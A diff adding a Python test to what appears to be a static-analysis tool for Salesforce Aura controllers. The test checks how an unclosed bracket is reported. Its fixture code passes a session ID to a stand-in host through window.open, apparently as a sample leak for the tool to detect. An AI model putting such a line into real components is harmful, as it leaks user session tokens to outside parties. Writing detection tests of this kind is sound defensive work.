@@ -668,3 +668,16 @@ def test_scripts_without_a_session_of_their_own_are_not_walked_for_tests() -> No
                                        "var sid = response.getReturnValue(); if (!sid) { return; }"),
                "force-app/main/default/aura/SyncCmp/SyncCmpController.js")
     assert ir.session_tests == ()
+
+
+def test_a_bracket_left_open_to_the_end_is_named_as_never_closed() -> None:
+    """W-11: an Aura controller without its final `})` is one error region from its first `(` to
+    the end; the note says the bracket is never closed (not that it was unexpected), and what
+    parsed inside is still lowered."""
+    ir = lower("({\n  go : function() {\n" + SID + "    window.open('https://x.example.com/?s=' + sid);\n  }\n",
+               path="aura/Cmp/CmpController.js")
+    (note,) = [n for n in ir.notifications if n.code == "parse-error"]
+    assert "'(' is never closed" in note.message and note.span is not None and note.span.start_line == 1
+    assert [s.kind for s in ir.sources] == [SourceKind.JS_SFORCE_SESSION]
+    closed = lower("({\n  go : function() {\n    var x = (1;\n  }\n})\n", path="aura/Cmp/CmpController.js")
+    assert not any("never closed" in n.message for n in closed.notifications)
